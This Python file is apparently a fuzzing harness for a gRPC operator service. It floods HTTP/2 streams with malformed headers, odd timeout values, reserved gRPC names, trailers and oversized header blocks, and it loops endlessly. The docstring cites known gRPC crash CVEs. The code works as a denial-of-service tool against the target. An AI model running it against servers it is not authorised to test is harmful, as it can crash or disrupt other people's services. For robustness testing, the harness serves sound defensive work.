"""Headers that no client sends: paths and methods of junk, values that are not what their names promise, time-outs of
nothing, of centuries and of words, names that gRPC keeps to itself, trailers from the client, more than 8 KiB behind
any of them.

gRPC before 1.53 aborted at some of these (CVE-2023-1428, CVE-2023-32732).
"""

import random

import hpack
import http2
import wire
from attack import Attack, Target, run
from http2 import END_HEADERS, END_STREAM, HEADERS, frame

BASE = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/opserve.v1.OperatorService/GetServerInfo"),
    (":authority", "x"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
TIMEOUTS = [
    "0n",
    "0S",
    "1n",
    "99999999H",
    "-1S",
    "1",
    "S",
    "",
    "999999999999999999999S",
    "1.5S",
    " 1S",
    "1 S",
    "٣S",
    "18446744073709551616n",
]
SPECIAL = [
    "grpclb_client_stats",
    "grpc-internal-encoding-request",
    "grpc-accept-encoding",
    "grpc-encoding",
    "grpc-status",
    "grpc-message",
    "grpc-timeout",
    "grpc-previous-rpc-attempts",
    "grpc-retry-pushback-ms",
    "grpc-tags-bin",
    "grpc-trace-bin",
    "grpc-server-stats-bin",
    "endpoint-load-metrics-bin",
    "lb-token",
    "lb-cost-bin",
    "user-agent",
    "host",
    "content-type",
    "te",
    ":status",
    ":method",
    ":scheme",
    ":path",
    ":authority",
    ":nonsense",
    "",
    " ",
    "UPPER",
    "x" * 5000,
    "x-bin",
    "grpc-status-details-bin",
    "connection",
    "\0",
    "é",
]
VALUES = [
    b"",
    b"x",
    b"0",
    b"-1",
    b"99999999999999999999",
    b"%%%%",
    b"a" * 9000,
    bytes(range(256)),
    b"=" * 7,
    b"AA",
    b"\xff\xfe",
    b"trailers",
    b"https",
    b"gzip,deflate,identity",
    b"/",
    b"/" * 3000,
    b"//x/y",
    b"\r\n",
]


def blocks(rng: random.Random) -> bytes:
    headers = [(name.encode(), value.encode()) for name, value in BASE]
    for _ in range(rng.randrange(1, 4)):
        name = rng.choice(SPECIAL + [name for name, _ in BASE]).encode()
        value = (
            rng.choice([timeout.encode() for timeout in TIMEOUTS]) if name == b"grpc-timeout" else rng.choice(VALUES)
        )
        headers = [header for header in headers if header[0] != name or rng.random() < 0.3]
        headers.insert(rng.randrange(len(headers) + 1), (name, value))
    if rng.random() < 0.3:
        headers.append((b"x-long", b"v" * rng.choice([7000, 8192, 9000, 100_000])))
    rng.shuffle(headers) if rng.random() < 0.2 else None
    return b"".join(hpack.literal(*header) if rng.random() < 0.7 else hpack.kept(*header) for header in headers)


def junk(target: Target) -> None:
    seed = random.randrange(1 << 32)
    rng = random.Random(seed)
    target.note(f"seed {seed}")
    while True:
        connection = target.connect()
        try:
            for _ in range(20):
                stream, block = connection.next_stream(), blocks(rng)
                connection.send(
                    in_frames(block, stream) + frame(http2.DATA, rng.choice([0, END_STREAM]), stream, http2.framed(b""))
                )
                if rng.random() < 0.3:
                    connection.send(
                        frame(
                            HEADERS,
                            END_HEADERS | END_STREAM,
                            stream,
                            hpack.literal("x-trailer", "y") * rng.choice([1, 2000]),
                        )
                    )
                connection.poll(0)
        except http2.Broken:
            pass
        connection.close()


def in_frames(block: bytes, stream: int) -> bytes:
    pieces = [block[i : i + 16000] for i in range(0, len(block), 16000)] or [b""]
    out = frame(HEADERS, END_HEADERS if len(pieces) == 1 else 0, stream, pieces[0])
    for i, piece in enumerate(pieces[1:], 2):
        out += frame(http2.CONTINUATION, END_HEADERS if i == len(pieces) else 0, stream, piece)
    return out


def time_outs(target: Target) -> None:
    connection = target.connect(1)
    while True:
        for timeout in TIMEOUTS[:4]:
            connection.unary("Execute", wire.execute(wire.l1_loss([1 << 20], 1), [wire.floats(1.0)]), timeout, 1.0)


if __name__ == "__main__":
    run(Attack([junk, time_outs], log_per_byte=0.5))
